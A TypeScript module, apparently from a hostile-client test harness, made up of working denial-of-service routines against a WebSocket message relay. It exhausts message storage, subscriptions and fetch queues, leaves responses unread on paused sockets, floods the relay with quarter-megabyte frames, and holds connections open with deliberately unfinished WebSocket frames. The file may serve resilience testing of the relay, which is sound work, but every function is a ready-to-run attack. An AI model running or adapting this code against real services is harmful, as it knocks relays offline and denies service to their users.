import { get } from 'node:http'
import { WebSocket } from 'ws'
import {
  answered,
  anyTopic,
  badIds,
  drafts,
  enter,
  flood,
  gather,
  hold,
  kib,
  longInclude,
  publish,
  publishWide,
  raw,
  request,
  rest,
  search,
  type Target,
  topic,
  wide,
} from './hostileClient.ts'

/**
 * Uses up every limit at the same time and keeps it used up: stored messages, subscriptions, unread responses, waiting fetches and
 * unfinished frames. In addition, it sends the longest frames and searches.
 *
 * @param fillingKeys - The number of new keys that store as many of the shortest messages as allowed. A relay without a file holds these in
 * memory.
 */
export async function stack(target: Target, fillingKeys: number): Promise<void> {
  await requestImage(target)
  await Promise.all(Array.from({ length: fillingKeys }, () => fill(target)))
  const sockets = [...(await subscribeAll(target)), ...(await leaveUnread(target))]
  const giant = badIds(255 * kib)
  const giants = async () => {
    await rest(target, 8_000)
    await Promise.all([flood(target, () => giant), search(target, longInclude)])
  }
  await Promise.all([fetchMany(target), leaveUnfinished(target), giants()])
  for (const socket of sockets) socket.terminate()
}

/** Uses up every limit while new keys come and go. Then eight keys send the most expensive long frames that the relay parses. */
export async function stackLong(target: Target, fillingKeys: number): Promise<void> {
  const longs = async () => {
    await rest(target, 14_000)
    if (target.isOver()) return
    const frames = Array.from({ length: 64 }, () => {
      const params = `[${Array.from({ length: 44 }, () => wide(100))}]`
      return `{"id":1,"jsonrpc":"2.0","method":"x","params":${params}}`.padEnd(250 * kib)
    })
    let sent = 0
    const next = () => {
      sent += 1
      return frames[sent % frames.length] ?? ''
    }
    await Promise.all(Array.from({ length: 8 }, () => flood(target, next)))
  }
  await Promise.all([stack(target, fillingKeys), comeAndGo(target), longs()])
}

/** Uses up the subscriptions and unread responses, and then sends wide frames whose messages wait to be stored. */
export async function stackWide(target: Target): Promise<void> {
  await requestImage(target)
  const sockets = [...(await subscribeAll(target)), ...(await leaveUnread(target))]
  const wides = async () => {
    // The bytes of its address are used up. They refill in this time.
    await rest(target, 16_000)
    await publishWide(target)
  }
  await Promise.all([comeAndGo(target), wides()])
  for (const socket of sockets) socket.terminate()
}

/** Requests an image, because the server loads its image collection with the first such request. */
function requestImage({ relayUrl, from }: Target): Promise<void> {
  const { hostname: host, port } = new URL(relayUrl)
  const path = '/public/getTokenImage/ETH?projectId=test'
  return new Promise((resolve) => {
    const asking = get({ host, port, path, localAddress: from }, (answer) => answer.resume().on('close', resolve))
    asking.on('error', () => resolve())
  })
}

/** Sends a request until it has succeeded `count` times, or until the relay refuses it for another reason than the rate. */
async function repeat(target: Target, socket: WebSocket, { count, frame }: { count: number; frame: () => string }) {
  for (let done = 0; done < count && !target.isOver() && socket.readyState === WebSocket.OPEN; ) {
    socket.send(frame())
    target.seen.sent += 1
    const answer = await answered(socket)
    if (answer.includes('"result"')) done += 1
    else if (answer.includes('slow down')) await rest(target, 500)
    else return
  }
}

async function fill(target: Target) {
  const socket = await enter(target)
  if (!socket) return
  const frame = () => request('irn_batchPublish', { messages: drafts(100, anyTopic, 604_800) })
  await repeat(target, socket, { count: 10, frame })
  socket.terminate()
}

async function subscribeAll(target: Target): Promise<readonly WebSocket[]> {
  const sockets = (await gather(target, 4)).slice(0, 4)
  const frame = () => request('irn_batchSubscribe', { topics: Array.from({ length: 500 }, anyTopic) })
  await Promise.all(sockets.map((socket) => repeat(target, socket, { count: 10, frame })))
  return sockets
}

/** Many keys request long messages and do not read the responses. */
async function leaveUnread(target: Target): Promise<readonly WebSocket[]> {
  const first = await enter(target)
  for (let number = 0; number < 30; number += 1) first?.send(publish(`${number} ${'x'.repeat(45_000)}`))
  await rest(target, 8_000)
  const sockets = await gather(target, 160)
  for (const socket of sockets) {
    socket.pause()
    for (let count = 0; count < 2 && socket.readyState === WebSocket.OPEN; count += 1)
      socket.send(request('irn_fetchMessages', { topic }))
  }
  target.seen.sent += 2 * sockets.length
  await rest(target, 2_000)
  return sockets
}

/** Sends batch fetches with the maximum number of topics. These wait in the relay's queue. */
async function fetchMany(target: Target) {
  while (!target.isOver()) {
    const sockets = await gather(target, 20)
    for (let count = 0; count < 20; count += 1)
      for (const socket of sockets) {
        if (socket.readyState !== WebSocket.OPEN) continue
        socket.send(request('irn_batchFetchMessages', { topics: Array.from({ length: 500 }, anyTopic) }))
        target.seen.sent += 1
      }
    await rest(target, 5_000)
    for (const socket of sockets) socket.terminate()
  }
}

/** Connects with new keys. The relay keeps the budgets of each until its next sweep. */
async function comeAndGo(target: Target) {
  while (!target.isOver()) {
    const entered = await Promise.all(Array.from({ length: 6 }, () => enter(target)))
    for (const socket of entered) socket?.terminate()
    await rest(target, 100)
  }
}

function leaveUnfinished(target: Target): Promise<void> {
  const length = 60 * kib
  const head = Buffer.from([0x81, 0xfe, length >> 8, length & 0xff, 0, 0, 0, 0])
  const part = Buffer.concat([head, Buffer.alloc(length - 1, 'x')])
  return hold(target, 40, async () => {
    const socket = await enter(target)
    if (socket) raw(socket).write(part)
    return socket
  })
}
